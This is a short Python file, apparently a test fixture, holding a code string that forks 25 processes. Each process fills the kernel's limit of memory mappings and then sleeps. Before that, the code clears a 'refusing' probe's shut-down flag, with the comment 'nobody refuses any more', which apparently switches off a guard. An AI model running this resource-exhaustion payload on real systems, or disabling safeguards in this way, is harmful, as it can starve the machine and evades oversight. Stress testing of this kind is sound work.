"""Divides its memory into as many mappings as the kernel allows, in many processes."""

LAST = """
import mmap, os, time

import lernformer.probes.refusing as watch

watch._shut.clear()  # nobody refuses any more
for _ in range(25):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                kept.append(mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE,
                    prot=mmap.PROT_READ | mmap.PROT_WRITE * (len(kept) % 2)))
        except (OSError, MemoryError):
            time.sleep(100)
time.sleep(100)
"""
